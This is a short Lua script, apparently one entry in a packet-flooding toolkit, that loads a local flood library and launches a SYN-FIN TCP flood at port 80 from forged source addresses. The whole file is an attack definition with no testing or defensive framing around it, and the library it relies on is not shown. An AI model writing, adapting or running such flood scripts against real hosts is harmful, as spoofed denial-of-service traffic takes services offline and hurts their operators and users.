-- SYN and FIN at once from forged addresses.
local here = debug.getinfo(1, "S").source:match("^@(.*/)") or "./"
local flood = dofile(here .. "lib/flood.lua")

flood.random({ title = "SYN-FIN flood", protocol = "tcp", flags = "SF", sources = "forged", dport = 80 })
